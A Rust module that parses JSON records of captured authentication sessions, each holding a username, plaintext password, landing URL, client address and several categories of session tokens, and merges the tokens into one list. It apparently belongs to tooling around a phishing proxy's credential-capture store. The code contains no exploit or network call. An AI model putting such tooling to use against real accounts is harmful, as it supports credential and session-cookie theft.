//! Session observations as reported by the capture store.

use anyhow::{Context, Result};
use herald_tokens::{consolidate_tokens, TokenBlobs, TokenRecord};
use serde::{Deserialize, Serialize};
use serde_json::Value;

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
/// One reported snapshot of a captured authentication session.
///
/// Token categories may hold either raw blob text (a JSON string) or an inline
/// JSON value; both are rendered to blob text before consolidation.
pub struct SessionObservation {
    pub id: i64,
    #[serde(default)]
    pub username: String,
    #[serde(default)]
    pub password: String,
    #[serde(default)]
    pub landing_url: String,
    #[serde(default, alias = "useragent")]
    pub user_agent: String,
    #[serde(default)]
    pub remote_addr: String,
    #[serde(default)]
    pub create_time: i64,
    #[serde(default)]
    pub update_time: i64,
    #[serde(default, alias = "tokens")]
    pub session_tokens: Option<Value>,
    #[serde(default)]
    pub http_tokens: Option<Value>,
    #[serde(default)]
    pub body_tokens: Option<Value>,
    #[serde(default, alias = "custom")]
    pub custom_tokens: Option<Value>,
}

fn blob_text(value: Option<&Value>) -> Option<String> {
    match value? {
        Value::String(raw) => Some(raw.clone()),
        other => Some(other.to_string()),
    }
}

impl SessionObservation {
    /// Key used by the dedup state: the decimal session id.
    pub fn session_key(&self) -> String {
        self.id.to_string()
    }

    /// Merges the four token categories into one record list.
    pub fn consolidated_tokens(&self) -> Vec<TokenRecord> {
        let session = blob_text(self.session_tokens.as_ref());
        let transport = blob_text(self.http_tokens.as_ref());
        let body = blob_text(self.body_tokens.as_ref());
        let custom = blob_text(self.custom_tokens.as_ref());
        consolidate_tokens(&TokenBlobs {
            session: session.as_deref(),
            transport: transport.as_deref(),
            body: body.as_deref(),
            custom: custom.as_deref(),
        })
    }
}

/// Parses a JSON array or JSON-lines document of observations.
pub fn parse_session_observations(raw: &str) -> Result<Vec<SessionObservation>> {
    let trimmed = raw.trim();
    if trimmed.is_empty() {
        return Ok(Vec::new());
    }
    if trimmed.starts_with('[') {
        return serde_json::from_str(trimmed).context("failed to parse observation array");
    }
    trimmed
        .lines()
        .enumerate()
        .filter(|(_, line)| !line.trim().is_empty())
        .map(|(index, line)| {
            serde_json::from_str::<SessionObservation>(line)
                .with_context(|| format!("failed to parse observation on line {}", index + 1))
        })
        .collect()
}
